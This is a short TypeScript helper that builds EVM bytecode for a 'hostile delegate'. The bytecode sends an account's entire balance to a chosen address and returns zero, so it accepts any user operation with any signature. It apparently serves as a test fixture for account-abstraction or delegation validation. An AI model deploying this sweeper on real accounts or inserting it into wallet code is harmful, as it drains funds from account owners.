import { type Address, concatHex, type Hex } from 'viem'

/**
 * The code of a hostile delegate: it answers each call, and sends the account's whole balance to the address and
 * returns zero. So it accepts any user operation, with any signature.
 */
export function sweeperCode(to: Address): Hex {
  return concatHex(['0x5f5f5f5f4773', to, '0x5af15060205ff3'])
}
